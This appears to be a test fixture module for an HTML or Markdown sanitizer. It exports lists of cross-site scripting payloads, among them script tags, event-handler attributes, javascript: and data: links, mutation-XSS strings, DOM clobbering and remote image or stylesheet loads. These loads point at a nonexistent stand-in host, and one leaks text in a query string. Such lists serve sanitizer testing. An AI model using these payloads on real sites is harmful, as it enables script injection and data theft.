/** The effect of a payload's script, and the (nonexistent) host it would call. */
const act = 'window.ran=(window.ran||0)+1';
const host = 'elsewhere.invalid';
const away = `http://${host}`;

const scripts = [
  `<script>${act}</script>`,
  `<SCRIPT SRC=${away}/a.js></SCRIPT>`,
  `<script\n>${act}</script\n>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script type="module">import "${away}/m.js"</script>`,
  `"><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `<script x>${act}</script y>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href="data:text/javascript,${act}"/></svg>`,
  `<math><script>${act}</script></math>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><script>${act}</script>">`,
  `<div><script>${act}</script></div>`,
];

const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'onanimationend',
  'ontoggle',
  'onbeforetoggle',
  'onpointerover',
  'onwheel',
  'onscroll',
];
const handlers = [
  ...events.map((event) => `<img src=x ${event}="${act}">`),
  ...events.slice(0, 6).map((event) => `<div ${event}="${act}" tabindex=0 autofocus>text</div>`),
  `<body onload="${act}">`,
  `<details open ontoggle="${act}"><summary>open</summary></details>`,
  `<input autofocus onfocus="${act}">`,
  `<select autofocus onfocus="${act}"></select>`,
  `<video><source onerror="${act}"></video>`,
  `<audio src=x onerror="${act}"></audio>`,
  `<marquee onstart="${act}">text</marquee>`,
  `<svg onload="${act}"></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName="onmouseover" to="${act}"></svg>`,
  `<img src=x:x onerror\n=\n"${act}">`,
  `<img/src=x/onerror=${act}>`,
  `<img src="x" onerror="${act}" style="display:none">`,
  `<a href="#" onclick="${act}" id="x">text</a>`,
  `<button popovertarget=x onclick="${act}">text</button><div popover id=x onbeforetoggle="${act}">x</div>`,
  `<form onsubmit="${act}"><button>send</button></form>`,
  `" onmouseover="${act}" x="`,
  `' onfocus='${act}' autofocus='`,
];

const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `java&#10;script:${act}`,
  `&#106;avascript:${act}`,
  `&#x6A;&#x61;vascript:${act}`,
  `javascript&colon;${act}`,
  `\u0001javascript:${act}`,
  ` javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  `vbscript:msgbox(1)`,
  `blob:${away}/x`,
  'file:///etc/passwd',
  `feed:javascript:${act}`,
  `//${host}/relative`,
];
const links = [
  ...schemes.map((address) => `[a link](<${address}>)`),
  ...schemes.slice(0, 12).map((address) => `<a href="${address}">a link</a>`),
  ...schemes.slice(0, 4).map((address) => `[a link](${address})`),
  ...schemes.slice(0, 4).map((address) => `[a link][ref]\n\n[ref]: <${address}>`),
  `<javascript:${act}>`,
  `<data:text/html,x>`,
  `[a](javascript:${act} "title")`,
  `[![](javascript:${act})](javascript:${act})`,
  `[a](http://a.invalid"onmouseover="${act})`,
  `[a](<http://a.invalid" onmouseover="${act}>)`,
  `http://a.invalid/"onmouseover="${act}`,
  `www.a.invalid/<script>${act}</script>`,
  `mailto:a@a.invalid?body=<script>${act}</script>`,
  `[^note]\n\n[^note]: <img src=x onerror="${act}">`,
];

const images = [
  `![a picture](${away}/p.png)`,
  `![a picture](//${host}/p.png)`,
  `![a picture][pic]\n\n[pic]: ${away}/p.png`,
  `![](${away}/p.png?words=secret)`,
  `![a" onerror="${act}](x)`,
  `![a](javascript:${act})`,
  `![a](data:image/svg+xml,<svg onload="${act}"></svg>)`,
  `<img src="${away}/p.png">`,
  `<img srcset="${away}/p.png 2x">`,
  `<picture><source srcset="${away}/p.png"><img></picture>`,
  `<video poster="${away}/p.png" src="${away}/v.mp4" autoplay></video>`,
  `<audio src="${away}/a.mp3" autoplay></audio>`,
  `<input type=image src="${away}/p.png">`,
  `<svg><image href="${away}/p.png"></image></svg>`,
  `<svg><use href="${away}/s.svg#x"></use></svg>`,
  `<svg><feImage href="${away}/p.png"></feImage></svg>`,
  `<table background="${away}/p.png"><tr><td>cell</td></tr></table>`,
];

const frames = [
  `<iframe src="${away}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="${away}/o"></object>`,
  `<embed src="${away}/e">`,
  `<portal src="${away}"></portal>`,
  `<frameset><frame src="${away}"></frameset>`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<link rel=stylesheet href="${away}/s.css">`,
  `<link rel=prefetch href="${away}/p">`,
  `<link rel=dns-prefetch href="//${host}">`,
];

const styles = [
  `<style>@import "${away}/s.css";</style>`,
  `<style>*{background:url(${away}/p.png)}</style>`,
  `<div style="background:url(${away}/p.png)">text</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">over all</div>`,
  `<p style="behavior:url(${away})">text</p>`,
  `<font color="red" face="x" style="animation:x 1s" onanimationstart="${act}">text</font>`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noscript><style></noscript><img src=x onerror=${act}></style>`,
  `<a href="x"><img src=x alt="</a><img src=x onerror=${act}>"></a>`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;img src=x onerror=${act}&#62;`,
  `\\<script>${act}\\</script>`,
  `\`<script>${act}</script>\``,
  `| <img src=x onerror="${act}"> | <script>${act}</script> |\n|---|---|\n| ![](${away}/p.png) | [x](javascript:${act}) |`,
  `- [x] <img src=x onerror="${act}">\n- <iframe src="${away}"></iframe>`,
  `> <script>${act}</script>\n> ![](${away}/q.png)`,
  `# <img src=x onerror="${act}"> [x](javascript:${act})`,
  `~~<script>${act}</script>~~ **<img src=x onerror=${act}>**`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<form id="location"><input name="href"></form><img name="body">`,
  `<a id="__proto__" name="getElementById">text</a>`,
];

/** Payloads that can follow one another in a text. */
export const payloads = [...scripts, ...handlers, ...links, ...images, ...frames, ...styles, ...mutations];

/** Some of every kind; scripts come last, because what follows an unclosed one is no longer Markdown. */
export const fewPayloads = [links, images, frames, styles, mutations, handlers, scripts].flatMap((kind) =>
  kind.filter((_, index) => index % 6 === 3),
);

/** Unclosed payloads, which may swallow what follows: each gets its own text. */
export const openPayloads = [
  `<script>${act}`,
  `<!--<img src="--><img src=x onerror=${act}>">`,
  `<!-- --!><img src=x onerror=${act}> `,
  `<![CDATA[<img src=x onerror=${act}>]]>`,
  `<?xml-stylesheet href="${away}/s.css"?><img src=x onerror=${act}>`,
  `<style>@import '${away}/s.css'`,
  `<plaintext><img src=x onerror=${act}>`,
  `<textarea><img src=x onerror=${act}>`,
  `\`\`\`html\n<script>${act}</script>\n<img src=${away}/p.png>`,
  `<img src="${away}/p.png?`,
  `<a href="javascript:${act}`,
];
